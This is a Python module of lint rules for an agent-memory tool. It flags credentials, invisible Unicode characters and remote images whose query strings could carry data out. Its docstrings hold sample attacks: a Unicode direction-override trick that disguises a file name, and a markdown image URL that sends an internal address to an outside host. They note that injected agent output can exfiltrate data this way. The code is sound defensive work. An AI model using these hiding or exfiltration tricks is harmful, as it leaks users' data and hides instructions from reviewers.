"""Rules about what must not be in a memory at all: secrets, hidden characters, pictures that call home."""

from __future__ import annotations

import re
from itertools import groupby
from typing import TYPE_CHECKING

from thunderus_mem.model.diagnostic import Diagnostic, TextEdit
from thunderus_mem.model.outline import scan
from thunderus_mem.model.secrets import find_secrets
from thunderus_mem.model.unicode import find_invisible

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from thunderus_mem.lint.subject import Subject
    from thunderus_mem.model.unicode import Invisible


def secret(subject: Subject) -> Iterable[Diagnostic]:
    """The text holds what looks like a credential: a token, a private key, a password in an address.

    Why: a memory is committed, cloned, searched and read by agents; a secret in it is public to all of them
    and stays in git's history. The finding names kind, place and fingerprint and never shows the value.

    Bad::

        Deploy with the token ghp_…36 letters and digits…

    Good::

        Deploy with the token in $DEPLOY_TOKEN (the vault's entry "deploy").

    Mend: revoke the secret, then take it out of the text and of git's history. For a value that is none, say
    so with the finding's fingerprint: ``<!-- thunderus-mem: ignore TM401 1a2b3c4d made up as example -->``.
    """
    for one in find_secrets(subject.reading.path):
        yield subject.found(
            "TM401",
            (0, 0),
            f"A secret of the kind {one.kind} stands in the name of the file "
            f"(fingerprint {one.fingerprint}).",
            expected="no secrets in the memory",
            hint="Revoke it and rename the file.",
        )
    text = subject.reading.text
    if text is None:
        return
    for one in find_secrets(text):
        answer = f"<!-- thunderus-mem: ignore TM401 {one.fingerprint} why -->"
        yield subject.found(
            "TM401",
            subject.place(one.start),
            f"A secret of the kind {one.kind} stands here (fingerprint {one.fingerprint}).",
            expected="no secrets in the memory",
            hint=f"Revoke it and take it out. If it is none: {answer}",
        )


# Taking these out never changes what a person reads.
_REMOVABLE = frozenset("\u00ad\u200b\u2060\ufeff\u034f\u180e")


def invisible_unicode(subject: Subject) -> Iterable[Diagnostic]:
    """The text holds characters nobody sees: zero width, direction overrides, tags, controls.

    Why: they hide instructions from reviewers and break search, copying and terminals. Joiners inside emoji
    and in scripts that need them, and direction marks beside right-to-left text, are fine.

    Bad::

        rm <U+202E>txt.exe

    Good::

        rm exe.txt

    Mend: delete the character; ``lint --fix`` deletes those that only take no space.
    """
    text = subject.reading.text
    if text is None:
        return
    # One finding a line says it; --fix takes out every removable one of the line.
    for (line, column), group in _by_line(subject, find_invisible(text)):
        first = group[0]
        edits = tuple(TextEdit(one.start, one.start + 1, "") for one in group if one.char in _REMOVABLE)
        more = f" and {len(group) - 1} more in this line" if len(group) > 1 else ""
        yield subject.found(
            "TM402",
            (line, column),
            f"The invisible character U+{ord(first.char):04X} ({first.name}) stands here{more}.",
            expected="characters that can be seen",
            hint="Delete it.",
            edits=edits,
        )


def _by_line(subject: Subject, found: list[Invisible]) -> Iterator[tuple[tuple[int, int], list[Invisible]]]:
    for _, group in groupby(found, key=lambda one: subject.place(one.start)[0]):
        members = list(group)
        yield subject.place(members[0].start), members


_IMAGE = re.compile(r"!\[[^\]\n]{0,300}\]\(\s{0,20}<?(https?://[^\s)>]{1,2000})", re.IGNORECASE)
_TAG = re.compile(
    r"<img\b[^>\n]{0,1000}?\bsrc\s{0,3}=\s{0,3}[\"']?(https?://[^\s\"'>]{1,2000})", re.IGNORECASE
)
# Badges and file hosts, and the names of parameters that only say how a picture looks.
_HARMLESS_HOST = re.compile(
    r"https?://(?:[\w-]+\.)*(?:shields\.io|githubusercontent\.com|github\.com|gitlab\.com|codecov\.io|fury\.io|"
    r"travis-ci\.(?:org|com)|circleci\.com|coveralls\.io|codacy\.com|sonarcloud\.io|readthedocs\.org|star-history\.com|"
    r"codeclimate\.com|appveyor\.com|azure\.com|opencollective\.com|contrib\.rocks|gravatar\.com)(?:[:/]|$)",
    re.IGNORECASE,
)
_HARMLESS_NAMES = frozenset(
    (
        *("raw", "branch", "style", "logo", "label", "labelcolor", "color", "colora", "colorb", "logocolor"),
        *(
            "size",
            "s",
            "v",
            "version",
            "w",
            "h",
            "width",
            "height",
            "format",
            "fm",
            "auto",
            "q",
            "fit",
            "dpr",
        ),
        *("theme", "type", "event", "sanitize", "job", "repo", "cachebust", "message", "max"),
    )
)


def remote_image_with_query(subject: Subject) -> Iterable[Diagnostic]:
    """A picture is loaded from the network with something in its query.

    Why: whoever renders the document sends the query to that server without a click; text an agent was made
    to write can carry data out that way. Badges and parameters that only set size or looks are fine.

    Bad::

        ![](https://pictures.example/p.png?note=the-database-is-on-10.0.0.5)

    Good::

        ![](diagram.png)

    Mend: keep the picture in the repository, or drop the query.
    """
    body = subject.body
    if "://" not in body or "?" not in body or ("![" not in body and "<img" not in body.lower()):
        return
    lines = scan(body)
    hidden = {line for start, end in lines.hidden for line in range(start, end)}
    for number, line in enumerate(lines.lines):
        for column, url in _images(line):
            if number not in hidden and _carries_data(url):
                yield subject.found(
                    "TM403",
                    (subject.in_body(number + 1), column),
                    "A picture from the network carries a query.",
                    expected="a picture of the repository, or an address without a query",
                    hint="Keep the picture in the repository, or drop the query.",
                )


def _images(line: str) -> Iterator[tuple[int, str]]:
    if "://" not in line or "?" not in line:
        return
    for pattern in (_IMAGE, _TAG):
        for match in pattern.finditer(line):
            if line.count("`", 0, match.start()) % 2 == 0:
                yield match.start() + 1, match[1]


def _carries_data(url: str) -> bool:
    _, mark, query = url.partition("?")
    if not mark or _HARMLESS_HOST.match(url):
        return False
    names = [
        part.partition("=")[0].lower() for part in re.split(r"&(?:amp;)?|;", query.partition("#")[0]) if part
    ]
    return any(name not in _HARMLESS_NAMES for name in names)
